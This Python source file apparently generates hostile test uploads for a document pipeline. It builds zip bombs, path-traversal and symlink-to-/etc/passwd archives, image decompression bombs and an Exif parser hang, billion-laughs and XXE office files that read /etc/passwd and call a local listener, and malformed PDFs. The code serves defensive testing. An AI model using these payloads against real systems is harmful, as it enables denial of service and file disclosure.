"""Hostile files: archives, pictures, office files and PDFs that are more than they seem."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import lru_cache
from io import BytesIO

from reports.demo import pictures
from reports.demo.mime import File

from .bomb_mails import EVIL, Bomb, beside

LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DOCX_PART = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_PART = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def zipped(items: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP of these names and bytes."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in items.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 7, 1, 9, 0, 0)), data, compression)
    return out.getvalue()


@lru_cache(maxsize=2)
def zeros(size: int) -> tuple[bytes, int]:
    """Return so many zero bytes as raw deflate, and their CRC."""
    packer, check, piece = zlib.compressobj(6, zlib.DEFLATED, -15), 0, bytes(10_000_000)
    packed = b""
    for _ in range(size // len(piece)):
        packed += packer.compress(piece)
        check = zlib.crc32(piece, check)
    return packed + packer.flush(), check


def raw_zip(entries: list[tuple[str, int]], data: bytes, check: int, size: int) -> bytes:
    """Return a ZIP of one local file that every entry (name, declared size) of its directory refers to."""
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, check, len(data), size, len(entries[0][0]), 0)
    body = local + entries[0][0].encode() + data
    directory = b"".join(
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, check, len(data), declared, len(name), 0, 0, 0, 0, 0, 0)
        + name.encode()
        for name, declared in entries
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, len(entries) & 0xFFFF, len(entries) & 0xFFFF, len(directory), len(body), 0)
    return body + directory + end


def archives() -> Iterator[Bomb]:
    """Yield complete entries with a hostile archive beside their files."""
    inner = zipped({"photo.jpg": pictures.logo()})
    for level in range(40):
        inner = zipped({f"{level}.zip": inner, f"again{level}.zip": inner[:2000]})
    packed, check = zeros(300_000_000)
    names = [
        f"../../{EVIL}.jpg",
        f"/tmp/{EVIL}.jpg",
        f"..\\..\\{EVIL}.jpg",
        "CON.jpg",
        "aux",
        "a" * 5000 + ".jpg",
        "a:b?.jpg",
        "\u202egpj.exe",
    ]
    link = zipfile.ZipInfo("Work 9.jpg", (2026, 7, 1, 9, 0, 0))
    link.external_attr, link.create_system = 0o120777 << 16, 3
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    made = {
        "zip-nested": inner,
        "zip-overlap": raw_zip([(f"{n}.jpg", 300_000_000) for n in range(500)], packed, check, 300_000_000),
        "zip-ratio": raw_zip([("a.jpg", 300_000_000)], packed, check, 300_000_000),
        "zip-forged-size": raw_zip([("a.jpg", 1000)], packed, check, 1000),
        "zip-65k": zipped({f"{n}.txt": b"" for n in range(65_000)}, zipfile.ZIP_STORED),
        "zip-traversal": zipped(dict.fromkeys(names, pictures.logo())),
        "zip-symlink": out.getvalue(),
        "zip-cut": zipped({"a.jpg": pictures.logo() * 50})[:-40],
    }
    for number, (name, data) in enumerate(made.items(), 31):
        yield beside(name, File(name="photos.zip", data=data, type="application/zip"), number=number)


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a PNG chunk."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def images(work: bytes) -> Iterator[Bomb]:
    """Yield entries with a hostile picture among their works; `work` is an honest JPEG to begin from."""
    start = next(at for at in range(len(work)) if work[at] == 0xFF and work[at + 1] in (0xC0, 0xC2) and work[at + 2] == 0)
    wide = work[: start + 5] + struct.pack(">HH", 65500, 65500) + work[start + 9 :]
    header = struct.pack(">IIBBBBB", 65500, 65500, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    text = chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(100_000_000)))
    small = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(8 * 25))) + chunk(b"IEND", b"")
    frame = b"\x21\xf9\x04\0\1\0\0\0" + b"\x2c\0\0\0\0\x10\x27\x10\x27\0" + b"\x02\x02\x44\x01\0"
    gif = b"GIF89a\x10\x27\x10\x27\x80\0\0\0\0\0\xff\xff\xff" + frame * 4785 + b"\x3b"
    loop = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 8) + struct.pack("<I", 8)
    chain = b"II*\0\x08\0\0\0" + b"".join(
        struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 8) + struct.pack("<I", 8 + 18 * (n + 1)) for n in range(100_000)
    )
    # An Exif MakerNote that claims a milliard of values: ExifRead reads for ever (exif-py#182).
    note = struct.pack("<HHHII", 2, 271, 2, 6, 60) + struct.pack("<HHII", 34665, 4, 1, 80) + struct.pack("<I", 0)
    tiff = (b"II*\0\x08\0\0\0" + note).ljust(60, b"\0") + b"NIKON\0"
    maker = struct.pack("<HHHII", 1, 37500, 7, 1_000_000_000, 110) + struct.pack("<I", 0)
    tiff = tiff.ljust(80, b"\0") + maker
    tiff = (
        tiff.ljust(110, b"\0")
        + b"Nikon\0\2\x10\0\0II*\0\x08\0\0\0"
        + struct.pack("<HHHII", 1, 1, 7, 1_000_000_000, 0)
        + b"\0" * 3000
    )
    exif = b"Exif\0\0" + tiff
    noted = work[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + work[2:]
    made = {
        "jpeg-65500": wide, "png-65500": png + chunk(b"IDAT", zlib.compress(bytes(1_000_000))) + chunk(b"IEND", b""), "png-text": small + text + pixels,
        "gif-4785": gif, "tiff-loop": loop, "tiff-chain": chain, "exif-makernote": noted,
        "psd-as-jpeg": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 300_000, 300_000, 8, 3) + bytes(100),
        "eps-as-jpeg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n{} loop\n",
    }  # fmt: skip
    for number, (name, data) in enumerate(made.items(), 51):
        yield beside(name, File(name="Work 4.jpg", data=data, type="image/jpeg"), number=number)


def _office(main: str, part: str, xml: str, more: dict[str, bytes] | None = None, relations: str = "") -> bytes:
    """Return an office file whose main part is `xml`."""
    types = f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{part}"/></Types>'
    top = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{REL}/officeDocument" Target="{main}"/></Relationships>'
    folder, _, name = main.rpartition("/")
    own = f'<Relationships xmlns="{PACKAGE}/relationships">{relations}</Relationships>'
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    items = {
        "[Content_Types].xml": head + types,
        "_rels/.rels": head + top,
        main: head + xml,
        f"{folder}/_rels/{name}.rels": head + own,
    }
    return zipped({**{key: text.encode() for key, text in items.items()}, **(more or {})})


def documents(listener: int) -> Iterator[Bomb]:
    """Yield entries whose form is a bomb; `listener` is a port that must never be spoken to."""
    outside = f"http://127.0.0.1:{listener}/x"
    text = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{{}}</w:t></w:r></w:p></w:body></w:document>'
    entity = f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{outside}"><!ENTITY % p SYSTEM "{outside}"> %p;]>'
    followed = f'<Relationship Id="r9" Type="{REL}/attachedTemplate" Target="{outside}" TargetMode="External"/><Relationship Id="r8" Type="{REL}/image" Target="{outside}" TargetMode="External"/>'
    sheet = f'<workbook xmlns="{S}" xmlns:r="{REL}"><sheets><sheet name="a" sheetId="1" r:id="s1"/></sheets></workbook>'
    held = f'<Relationship Id="s1" Type="{REL}/worksheet" Target="sheet1.xml"/>'
    wide = f'<worksheet xmlns="{S}"><dimension ref="A1:XFD1048576"/><sheetData>{{}}</sheetData></worksheet>'
    far = wide.format('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    many = wide.format("".join(f'<row r="{n}">' + f'<c r="A{n}"><v>1</v></c>' * 30 + "</row>" for n in range(1, 60_000)))
    laughing = LAUGHS + wide.format('<row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row>')
    packed, check = zeros(1_000_000_000)
    forms = {
        "docx-laughs.docx": _office("word/document.xml", DOCX_PART, LAUGHS + text.format("&a11;")),
        "docx-entity.docx": _office("word/document.xml", DOCX_PART, entity + text.format("&f;&h;")),
        "docx-relations.docx": _office("word/document.xml", DOCX_PART, text.format("Name"), relations=followed),
        "docx-1gb.docx": raw_zip([("word/document.xml", 1_000_000_000)], packed, check, 1_000_000_000),
        "xlsx-far.xlsx": _office("xl/workbook.xml", XLSX_PART, sheet, {"xl/sheet1.xml": far.encode()}, held),
        "xlsx-many.xlsx": _office("xl/workbook.xml", XLSX_PART, sheet, {"xl/sheet1.xml": many.encode()}, held),
        "xlsx-laughs.xlsx": _office("xl/workbook.xml", XLSX_PART, sheet, {"xl/sheet1.xml": laughing.encode()}, held),
        **pdfs(),
    }
    for number, (name, data) in enumerate(forms.items(), 71):
        stem, _, ending = name.partition(".")
        bomb = beside(stem, File(name=f"Application Form.{ending}", data=data), number=number)
        yield bomb


def pdfs() -> dict[str, bytes]:
    """Return PDFs with a deep page tree and with a huge stream."""
    deep = [b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"]
    deep += [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(2, 5000)]
    deep.append(b"<</Type/Page/Parent 4999 0 R/MediaBox[0 0 9 9]>>")
    round_ = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 99999/Kids[2 0 R 2 0 R 2 0 R]/Parent 2 0 R>>"]
    packed = zlib.compress(bytes(300_000_000), 6)
    stream = b"<</Length %d/Filter/FlateDecode>>stream\n" % len(packed) + packed + b"\nendstream"
    huge = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
        stream,
    ]
    return {"pdf-deep.pdf": _pdf(deep), "pdf-round.pdf": _pdf(round_), "pdf-stream.pdf": _pdf(huge)}


def _pdf(objects: list[bytes]) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        table,
        len(objects) + 1,
        len(out),
    )
